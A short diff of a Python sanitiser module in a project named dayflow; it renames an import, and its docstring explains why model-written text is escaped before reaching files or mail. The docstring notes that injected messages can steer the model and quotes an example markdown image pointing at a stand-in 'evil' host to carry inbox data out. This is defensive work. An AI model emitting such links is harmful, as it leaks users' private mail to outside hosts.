@@ -4,7 +4,7 @@ The model's text is not trusted: a message can make it write anything, and a not
 mail reader) renders what a sink writes. So before a brief leaves for a file or a mail:
 
 - control characters, bidi overrides and zero-width marks become visible escapes, exactly as
-  on stdout (`listing.plain`); line ends become `\\n`;
+  on stdout (`printable.plain`); line ends become `\\n`;
 - images become their alt text, always: a remote image is fetched when the note is rendered,
   and its address can carry inbox data (`![x](http://evil/?q=...)`), reference-style and HTML
   images included;
@@ -23,7 +23,7 @@ from __future__ import annotations
 import re
 from collections.abc import Callable
 
-from dayflow.listing import plain
+from dayflow.printable import plain
 
 REMOVED = "(link removed)"
 # A placeholder for a construct already judged: NUL never survives `plain`, so it cannot be
